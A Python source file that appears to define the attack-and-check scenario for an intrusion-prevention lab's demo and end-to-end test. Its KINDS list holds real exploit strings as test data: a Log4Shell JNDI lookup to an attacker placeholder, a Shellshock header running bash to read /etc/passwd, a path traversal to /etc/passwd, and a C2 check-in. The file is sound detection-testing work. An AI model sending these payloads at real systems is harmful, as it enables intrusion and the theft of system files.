"""The scenario of the demo and of the end-to-end test, as data: what attacks whom, and what must go on undisturbed.

`KINDS` is the one place where the requests are written. They are harmless by themselves: the lab's servers run none
of it, and the addresses are the lab's own. Each is found by the starter rules and by the Emerging Threats rules. No
harmless check asks for a target of theirs.
"""

from collections.abc import Iterable
from dataclasses import dataclass
from enum import StrEnum

from hyperward.ips.rules.classes import RuleClass
from hyperward.lab.messages import HttpRequest, SshBanner
from hyperward.lab.plan import DOMAIN, OUT, Kind, LabPlan, Node

DOWNLOAD = 500 * 1024 * 1024
QEMU_DOWNLOAD = 64 * 1024 * 1024
"""Software emulation receives about 20 MB/s; this is enough to see a transfer through and not wait half a minute."""

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


class Direction(StrEnum):
    """Which way an attack goes, as the protected VM sees it."""

    IN = "in"
    OUT = "out"


@dataclass(frozen=True, slots=True)
class AttackKind:
    """One kind of attack: what is sent, and which class of rules must find it."""

    name: str
    title: str
    rule_class: RuleClass
    directions: tuple[Direction, ...]
    message: HttpRequest | SshBanner


BOTH = (Direction.IN, Direction.OUT)
KINDS = (
    AttackKind(
        "log4shell",
        "Log4Shell exploit request (CVE-2021-44228)",
        RuleClass.NETWORK_ATTACK,
        BOTH,
        HttpRequest("/login", (("User-Agent", "${jndi:ldap://{attacker}/a}"),)),
    ),
    AttackKind(
        "shellshock",
        "Shellshock exploit request (CVE-2014-6271)",
        RuleClass.NETWORK_ATTACK,
        BOTH,
        HttpRequest("/cgi-bin/status", (("User-Agent", "() { :;}; /bin/bash -c 'cat /etc/passwd'"),)),
    ),
    AttackKind(
        "path-traversal",
        "Path traversal to /etc/passwd (CVE-2021-41773)",
        RuleClass.NETWORK_ATTACK,
        BOTH,
        HttpRequest("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", (("User-Agent", BROWSER),)),
    ),
    AttackKind(
        "c2-check-in",
        "Command-and-control check-in",
        RuleClass.MALWARE,
        (Direction.OUT,),
        HttpRequest("/geost.php?bid=hw1", (("User-Agent", BROWSER), ("X-Hyperward-Test", "c2-check-in"))),
    ),
    AttackKind(
        "ssh-scanner",
        "SSH banner of a scanner (ScanSSH)",
        RuleClass.NETWORK_ATTACK,
        BOTH,
        SshBanner("SSH-1.0-SSH_Version_Mapper"),
    ),
)


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack of the scenario: a kind, from one machine to another, over one family."""

    kind: AttackKind
    direction: Direction
    client: str
    server: str
    family: int
    """4 or 6."""
    server_address: str
    message: HttpRequest | SshBanner
    """The kind's message with the client's address filled in."""

    @property
    def name(self) -> str:
        """A name that no other attack of the lab has, such as `log4shell-out-vm1-v4` (client, then server)."""
        return f"{self.kind.name}-{self.client}-{self.server}-v{self.family}"

    @property
    def vm(self) -> str:
        """The VM that the attack concerns."""
        return self.server if self.direction is Direction.IN else self.client


class CheckKind(StrEnum):
    """What must work undisturbed."""

    BROWSE = "browse"
    DOWNLOAD = "download"
    DNS = "dns"
    PING = "ping"


@dataclass(frozen=True, slots=True)
class Check:
    """One harmless check from a machine to another over one family."""

    kind: CheckKind
    client: str
    server: str
    family: int
    server_address: str
    size: int = 0
    """Bytes of a download."""
    rate: int = 0
    """The most bytes a second that it takes, 0 for no limit; the QEMU VM knows none."""

    @property
    def name(self) -> str:
        """A name that no other check of the lab has."""
        return f"{self.kind}-{self.client}-{self.server}-v{self.family}"


def attacks(plan: LabPlan, kinds: Iterable[AttackKind] = KINDS) -> tuple[Attack, ...]:
    """Return every attack of a lab: each kind, each of its directions, each VM, both families."""
    return tuple(
        _attack(kind, direction, vm, plan.node(OUT), family)
        for vm in plan.protected()
        for kind in kinds
        for direction in kind.directions
        for family in (4, 6)
    )


def checks(plan: LabPlan, *, download: int = DOWNLOAD, qemu_download: int = QEMU_DOWNLOAD) -> tuple[Check, ...]:
    """Return the harmless checks: each VM browses, downloads, resolves and pings, and is browsed and pinged."""
    found = []
    outside = plan.node(OUT)
    for vm in plan.protected():
        size = qemu_download if vm.kind is Kind.QEMU else download
        for family in (4, 6):
            there, here = outside.address(family), vm.address(family)
            found += [
                Check(CheckKind.BROWSE, vm.name, OUT, family, there),
                Check(CheckKind.BROWSE, OUT, vm.name, family, here),
                Check(CheckKind.DNS, vm.name, OUT, family, there),
                Check(CheckKind.PING, vm.name, OUT, family, there),
                Check(CheckKind.PING, OUT, vm.name, family, here),
                Check(CheckKind.DOWNLOAD, vm.name, OUT, family, there, size),
            ]
    return tuple(found)


def dns_question(check: Check) -> tuple[str, str]:
    """Return what a DNS check asks for: the server's own name, and the record type of the family."""
    return f"{check.server}.{DOMAIN}", "A" if check.family == 4 else "AAAA"  # noqa: PLR2004 - the version of IP


def _attack(kind: AttackKind, direction: Direction, vm: Node, outside: Node, family: int) -> Attack:
    client, server = (outside, vm) if direction is Direction.IN else (vm, outside)
    message = kind.message
    if isinstance(message, HttpRequest):
        message = message.for_attacker(client.address(family))
    return Attack(kind, direction, client.name, server.name, family, server.address(family), message)
